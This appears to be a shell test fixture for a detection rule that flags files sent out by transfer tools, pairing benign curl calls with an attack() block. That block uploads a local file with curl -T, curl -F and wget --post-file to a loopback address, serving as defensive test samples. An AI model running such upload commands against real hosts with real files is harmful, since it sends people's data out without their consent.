# Rule: File sent away by a transfer tool
benign() {
    ends 7 curl -s --max-time 1 -d status=ok http://192.0.2.1:1/hook
    ends 7 curl -s --max-time 1 -o file http://192.0.2.1:1/file
}
attack() {
    echo x > file
    curl -s --max-time 1 -T file http://127.0.0.2:1/
    curl -s --max-time 1 -F data=@file http://127.0.0.2:1/
    named wget
    wget -q --post-file=file http://127.0.0.2:1/
}
